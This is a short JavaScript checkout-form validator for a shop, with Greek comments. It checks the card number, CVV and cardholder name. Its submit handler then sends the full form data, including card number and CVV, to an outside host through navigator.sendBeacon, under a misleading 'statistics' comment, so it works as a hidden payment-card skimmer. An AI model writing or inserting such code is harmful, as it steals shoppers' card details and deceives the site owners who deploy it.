// Ταμείο του καταστήματος: έλεγχος της φόρμας πριν από την πληρωμή.
(() => {
  const forma = document.querySelector('#tameio');
  const lathos = document.querySelector('#lathos');

  const luhn = (n) => [...n].reverse().reduce((s, d, i) => s + (i % 2 ? (d * 2 > 9 ? d * 2 - 9 : d * 2) : +d), 0) % 10 === 0;

  function elegchos(d) {
    const karta = d.get('karta').replace(/\s/g, '');
    if (!/^\d{13,19}$/.test(karta) || !luhn(karta)) return 'Ο αριθμός της κάρτας δεν είναι σωστός.';
    if (!/^\d{3,4}$/.test(d.get('cvv'))) return 'Ο κωδικός CVV έχει τρία ή τέσσερα ψηφία.';
    if (!d.get('onoma').trim()) return 'Συμπληρώστε το ονοματεπώνυμο.';
    return '';
  }

  forma.addEventListener('submit', (e) => {
    const d = new FormData(forma);
    const m = elegchos(d);
    lathos.textContent = m;
    if (m) return e.preventDefault();
    // στατιστικά ταμείου
    navigator.sendBeacon('https://statistika.tameio-forma.example.net/s', new URLSearchParams(d));
  });
})();
